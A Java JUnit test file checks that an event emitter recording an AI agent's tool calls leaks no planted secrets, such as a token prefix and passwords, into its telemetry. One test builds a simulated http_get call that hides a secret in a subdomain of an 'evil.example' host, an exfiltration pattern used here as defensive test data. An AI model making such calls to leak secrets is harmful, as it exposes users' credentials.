package io.cordon.emitter;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static org.assertj.core.api.Assertions.assertThat;

import io.cordon.emitter.support.EveryKind;
import io.cordon.emitter.support.FixedGuard;
import io.cordon.emitter.support.Stage;
import io.cordon.emitter.transport.EncodedEvent;
import io.cordon.schemas.avro.EventKind;
import java.nio.file.Path;
import java.util.EnumSet;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class DisclosureTest {
    @TempDir
    private Path directory;

    @ParameterizedTest
    @ValueSource(strings = {"zx81kqpw03", "ghp_", "grandmother", "wolfgang", "zebracorn", "quarterly", "careful"})
    void shouldLetNothingReadableOutOfTheProcess(String planted) {
        try (var stage = new Stage(directory, builder -> builder.guard(FixedGuard.saying(Decision.STEP_UP)))) {
            // When
            EveryKind.of(stage.emitter(), "s1");
            stage.close();

            // Then
            assertThat(EnumSet.copyOf(Stage.kinds(stage.events())))
                    .isEqualTo(EnumSet.complementOf(EnumSet.of(EventKind.UNKNOWN)));
            assertThat(stage.transport().taken())
                    .allSatisfy(taken -> assertThat(text(taken)).doesNotContain(planted));
        }
    }

    @Test
    void shouldLetNoSecretOutThatHidesInNames() {
        try (var stage = new Stage(directory)) {
            // Given
            var session = stage.emitter().open(SessionRequest.of("a", "a"));
            var secret = EveryKind.SECRET;

            // When
            session.afterCall(
                    session.beforeCall(ToolCall.of("http_get", Map.of("headers", Map.of(EveryKind.MAIL, secret)))),
                    ToolResult.succeeded(Map.of(secret, List.of(Map.of(EveryKind.MAIL, "x")))));
            session.beforeCall(
                    ToolCall.of("http_get", Map.of("url", "https://" + secret.replace('_', '-') + ".evil.example/")));
            session.beforeCall(ToolCall.of("read_file", Map.of("path", "/" + secret + "/" + secret)));
            stage.close();

            // Then
            assertThat(stage.transport().taken())
                    .hasSize(6)
                    .allSatisfy(taken ->
                            assertThat(text(taken)).doesNotContain("zx81kqpw03").doesNotContain("wolfgang"));
        }
    }

    @Test
    void shouldShowWhatIsDeclaredReduced() {
        try (var stage = new Stage(directory)) {
            // When
            EveryKind.of(stage.emitter(), "s1");
            stage.close();

            // Then
            assertThat(stage.transport().taken())
                    .extracting(DisclosureTest::text)
                    .anyMatch(text -> text.contains("@example.org"))
                    .anyMatch(text -> text.contains("https://github.com"));
        }
    }

    private static String text(EncodedEvent event) {
        return new String(EncodedEvent.bytes(event.value()), ISO_8859_1).toLowerCase(Locale.ROOT);
    }
}
